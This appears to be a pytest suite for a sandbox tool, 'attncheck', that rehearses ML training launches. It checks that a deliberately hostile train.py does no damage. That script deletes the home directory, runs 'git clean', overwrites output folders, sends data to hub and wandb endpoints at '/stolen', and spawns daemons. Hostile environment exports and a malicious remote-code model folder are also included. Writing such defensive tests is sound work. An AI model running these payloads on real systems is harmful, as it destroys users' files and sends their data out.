"""Whole hostile launches through `attncheck smoke LAUNCH`: nothing is changed, sent, left running or told.

The script does at import all that a trainer's options might make it do, and more, and takes no step: exit 3.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.adversary.rehearsal.ground import Ground, World, lay_ground, lay_victim, take_digest
from tests.conftest import all_processes_gone

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the sandbox is Linux's")
UNANSWERED, INTERRUPTED = 3, 130
OUTPUTS = (
    *("save_path", "export_dir", "log_file", "results", "logging_dir", "checkpoint_dir", "ckpt", "save_dir", "dump"),
    *("tensorboard_dir", "cache_dir", "work_dir", "run_dir", "artifact_dir", "merged_path", "gguf_out", "metrics_file"),
    *("predictions", "profile_dir", "trace_path", "hf_dir", "local_dir", "eval_output", "adapter_path", "exp_dir"),
    *("log_root", "saveto", "target", "destination", "snapshot"),
)
SCRIPT = f"""\
import argparse, json, os, shutil, socket, subprocess, sys, urllib.request
parser = argparse.ArgumentParser()
for name in ("model", "data", "lr", "out", *{OUTPUTS!r}):
    parser.add_argument("--" + name)
parser.add_argument("positional", nargs="*")
options, others = parser.parse_known_args()
done = []
def attempt(name, act):
    try:
        act()
        done.append(name)
    except BaseException:
        pass
def save(path):
    path = os.path.expanduser(path)
    if "--overwrite" in others:
        shutil.rmtree(path, ignore_errors=True)
    os.makedirs(path, exist_ok=True)
    open(os.path.join(path, "precious.txt"), "w").write("damaged")
    open(os.path.join(path, "checkpoint"), "w").write("damaged")
for name, path in vars(options).items():
    if name not in ("model", "data", "lr", "positional") and path:
        attempt(name, lambda: save(path))
for path in (*options.positional, os.environ.get("OUT", ""), *json.load(open("hard_coded.json"))):
    attempt(path, lambda: save(path))
attempt("home", lambda: shutil.rmtree(os.path.expanduser("~")))
attempt("clean", lambda: subprocess.run(["git", "clean", "-fdxq"], check=True, stderr=-3))
for name in ("HF_ENDPOINT", "WANDB_BASE_URL"):
    attempt(name, lambda: urllib.request.urlopen(os.environ[name] + "/stolen", b"x", timeout=2))
    attempt(name, lambda: subprocess.run(["curl", "-sf", "-m", "2", os.environ[name]], check=True))
attempt("unix", lambda: socket.socket(socket.AF_UNIX).connect(os.environ["DOOR"]))
attempt("daemon", lambda: subprocess.Popen(["setsid", "env", "-i", "sleep", "599"]))
with open(os.path.join(os.environ["ATTNCHECK_WATCH"], "..", "output", "canary"), "w") as stream:
    stream.write("it ran")
print("DONE", len(done), "GUARDS", *(f"{{name}}={{os.environ.get(name)}}" for name in sorted(os.environ) if name in (
    "HF_HUB_OFFLINE", "WANDB_MODE", "HF_DATASETS_OFFLINE", "ATTNCHECK_REMOTE_CODE", "OTEL_SDK_DISABLED")))
print("\\033]0;owned\\007\\033[2J\\u202e")
sys.stdout.flush()
if "--hang" in others:
    import time
    time.sleep(600)
sys.exit(9 if "--fail" in others else 0)
"""
EXPORTS = """\
export HF_HUB_OFFLINE=0 WANDB_MODE=online HF_DATASETS_OFFLINE=0 OTEL_SDK_DISABLED=false HF_HOME=$HOME/hf
export ATTNCHECK_REMOTE_CODE=1 ATTNCHECK_WATCH=$HOME/files HF_ENDPOINT=HUB WANDB_BASE_URL=HUB
export DOOR=SOCKET OUT=ELSEWHERE/environment
export PGPASSWORD=SECRET PYTHONSTARTUP=$HOME/evil.py BASH_ENV=$HOME/evil.sh GIT_DIR=$HOME/.git
export STAMP=$(touch ELSEWHERE/canary)
touch ELSEWHERE/prologue
"""
SECRET = "hunter" + "2" * 9


@dataclass(frozen=True)
class Ended:
    status: int
    output: str
    error: str


@pytest.fixture
def ground(marker: str) -> Iterator[Ground]:
    with lay_ground() as ground:
        yield ground


def write_launch(ground: Ground, world: World, more: str = "") -> None:
    """Write the project: a script that damages what 30 options, its own text and its environment name."""
    elsewhere = ground.root / "elsewhere"
    names = (*OUTPUTS, "positional", "environment", "hard_coded", "linked", "relative")
    for number, name in enumerate(names):
        lay_victim((ground.home, ground.project, elsewhere)[number % 3] / name, os.getuid())
    (ground.project / "link").symlink_to(elsewhere / "linked")
    hard = [str(elsewhere / "hard_coded"), "link", "../files", "relative", str(ground.shared / "none")]
    (ground.project / "hard_coded.json").write_text(json.dumps(hard))
    (ground.project / "train.py").write_text(SCRIPT)
    spelled = [
        f"--{name} {('~/' + name, name, str(elsewhere / name))[number % 3]}" for number, name in enumerate(OUTPUTS)
    ]
    text = EXPORTS.replace("HUB", world.environment["HF_ENDPOINT"]).replace("SOCKET", world.targets["unix"])
    text = text.replace("ELSEWHERE", str(elsewhere)).replace("SECRET", SECRET)
    command = f"python train.py --model Qwen/Qwen2.5-0.5B --data rows.json --lr 1e-5 --out out {' '.join(spelled)}"
    (ground.project / "train.sh").write_text(f"{text}{command} --overwrite --push_to_hub {more} ../positional\n")


def start(ground: Ground, isolation: str, *options: str) -> subprocess.Popen[str]:
    environment = {
        **os.environ,
        "HOME": str(ground.home),
        "TMPDIR": str(ground.root / "tmp"),
        "XDG_CACHE_HOME": str(ground.root / "cache"),
        "ATTNCHECK_ISOLATION": isolation,
        "PYTHONPATH": str(Path(__file__).parents[3]),
    }
    words = [sys.executable, "-m", "attncheck", "smoke", "train.sh", "--device", "cpu", "--format", "json", *options]
    return subprocess.Popen(
        words, cwd=ground.project, env=environment, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )


def rehearse(ground: Ground, isolation: str, *options: str) -> Ended:
    process = start(ground, isolation, *options)
    output, error = process.communicate(timeout=300)
    return Ended(process.returncode, output, error)


def take_all(ground: Ground) -> Mapping[str, str]:
    """Return the digest of the home, the project in it and the folder elsewhere."""
    return {
        f"{folder}/{name}": text
        for folder in (ground.home, ground.root / "elsewhere")
        for name, text in take_digest(folder).items()
    }


def check_nothing_happened(ground: Ground, world: World, before: Mapping[str, str], opened: Sequence[str] = ()) -> None:
    after = take_all(ground)
    assert {name for name in before.keys() | after.keys() if before.get(name) != after.get(name)} == set()
    received = {name: listener.received for name, listener in world.listeners.items() if listener.received}
    assert {name: texts for name, texts in received.items() if name not in opened} == {}
    assert list((ground.root / "tmp").iterdir()) == []


@pytest.mark.parametrize("isolation", ["", pytest.param("landlock", marks=pytest.mark.nightly)])
def test_a_hostile_launch_changes_nothing(isolation: str, ground: Ground, marker: str) -> None:
    world = World(ground.root, os.getuid(), ())
    try:
        write_launch(ground, world, "--fail")
        before = take_all(ground)
        ended = rehearse(ground, isolation)
        # Landlock alone leaves connections of this machine open: ranks meet by them.
        check_nothing_happened(ground, world, before, ("tcp", "unix") if isolation else ())
    finally:
        world.close()
    assert "Traceback" not in ended.error and "\x1b" not in ended.output
    report = json.loads(ended.output) if ended.output else {}
    if not report:
        pytest.skip(f"this kernel isolates nothing: {ended.error}")
    [launch] = report["rehearsal"]["launches"]
    assert launch["steps"] == 0
    text = " ".join(launch["results"][0]["notes"])  # what the script printed last
    assert {"HF_HUB_OFFLINE=1", "HF_DATASETS_OFFLINE=1", "WANDB_MODE=disabled", "OTEL_SDK_DISABLED=true"} <= {
        *text.split()
    }
    assert "ATTNCHECK_REMOTE_CODE" not in text
    if launch["isolation"]["files"] == "overlay":
        shown = json.dumps(launch["isolation"]["written"] + launch["isolation"]["removed"])
        assert str(ground.home) in shown
    assert all_processes_gone(marker)


@pytest.mark.nightly
def test_a_launch_without_a_step_is_no_answer(ground: Ground) -> None:
    world = World(ground.root, os.getuid(), ())
    try:
        write_launch(ground, world)
        before = take_all(ground)
        ended = rehearse(ground, "")
        check_nothing_happened(ground, world, before)
    finally:
        world.close()
    assert ended.status == UNANSWERED and "Traceback" not in ended.error
    if ended.output:  # else the kernel isolates nothing, and the script was refused
        assert json.loads(ended.output)["rehearsal"]["launches"][0]["results"][0]["outcome"] == "skipped"
    assert SECRET not in ended.output + ended.error


def test_without_isolation_a_script_is_refused(ground: Ground) -> None:
    world = World(ground.root, os.getuid(), ())
    try:
        write_launch(ground, world)
        before = take_all(ground)
        ended = rehearse(ground, "none")
        check_nothing_happened(ground, world, before)
    finally:
        world.close()
    assert ended.status == UNANSWERED and "--trust-script" in ended.error and "Traceback" not in ended.error


@pytest.mark.nightly
def test_the_control_a_trusted_script_without_isolation_does_damage(ground: Ground) -> None:
    world = World(ground.root, os.getuid(), ())
    try:
        write_launch(ground, world)
        (ground.project / "train.py").write_text(SCRIPT.replace('"setsid", "env", "-i", "sleep", "599"', '"true"'))
        before = take_all(ground)
        rehearse(ground, "none", "--trust-script")
        assert take_all(ground) != before and world.listeners["tcp"].received
    finally:
        world.close()


@pytest.mark.nightly
@pytest.mark.parametrize("isolation", ["", "landlock"])
@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM, signal.SIGKILL])
@pytest.mark.parametrize("moment", ["start", "run"])
def test_a_kill_at_any_moment(moment: str, number: signal.Signals, isolation: str, ground: Ground, marker: str) -> None:
    world = World(ground.root, os.getuid(), ())
    try:
        write_launch(ground, world, "--hang")
        before = take_all(ground)
        process = start(ground, isolation)
        deadline = time.monotonic() + 120
        while moment == "run" and not list((ground.root / "tmp").glob("*/job/output/canary")):
            assert process.poll() is None and time.monotonic() < deadline, process.communicate()
            time.sleep(0.05)
        time.sleep(1.0 if moment == "start" else 0.2)
        process.send_signal(number)
        error = process.communicate(timeout=60)[1]
        assert "Traceback" not in error and process.returncode in (INTERRUPTED, -number)
        assert all_processes_gone(marker)
        if number == signal.SIGKILL:  # whoever starts next removes what a killed process could not
            words = [sys.executable, "-m", "attncheck", "doctor", "--lane", "static", "--python", sys.executable]
            environment = {**os.environ, "TMPDIR": str(ground.root / "tmp")}
            subprocess.run(words, env=environment, capture_output=True, timeout=120)
        check_nothing_happened(ground, world, before, ("tcp", "unix") if isolation else ())
    finally:
        world.close()


EVIL = "open('CANARY', 'w').close()\nclass C: pass\n"


@pytest.mark.parametrize(
    "option",
    [
        "--full-model",
        pytest.param("--real-data", marks=pytest.mark.nightly),
        pytest.param("", marks=pytest.mark.nightly),
    ],
)
def test_code_of_a_model_folder_is_not_run(option: str, ground: Ground) -> None:
    """Neither by attncheck, which reads the folder outside the sandbox, nor in the launch."""
    model, data = ground.project / "model", ground.project / "rows"
    for folder in (model, data):
        folder.mkdir()
    canary = ground.root / "elsewhere" / "evil"
    for path in (model / "evil.py", data / "rows.py", data / "data.py"):
        path.write_text(EVIL.replace("CANARY", str(canary)))
    classes = dict.fromkeys(("AutoConfig", "AutoModelForCausalLM"), "evil.C")
    config = {"model_type": "evil", "auto_map": classes, "architectures": ["C"], "hidden_size": 64, "vocab_size": 128}
    (model / "config.json").write_text(json.dumps(config))
    tokenizer = {"tokenizer_class": "C", "auto_map": {"AutoTokenizer": ["evil.C", "evil.C"]}}
    (model / "tokenizer_config.json").write_text(json.dumps(tokenizer))
    (ground.project / "train.py").write_text(
        "from transformers import AutoTokenizer\nimport sys\n"
        "AutoTokenizer.from_pretrained(sys.argv[2], trust_remote_code=True)\n"
    )
    (ground.project / "train.sh").write_text(
        "export ATTNCHECK_REMOTE_CODE=1\n"
        "python train.py --model ./model --data ./rows --lr 1e-5 --out out --trust_remote_code true\n"
    )
    before = take_all(ground)
    ended = rehearse(ground, "", *filter(None, [option]))
    assert take_all(ground) == before
    assert ended.status in (UNANSWERED, 1) and "Traceback" not in ended.error, ended
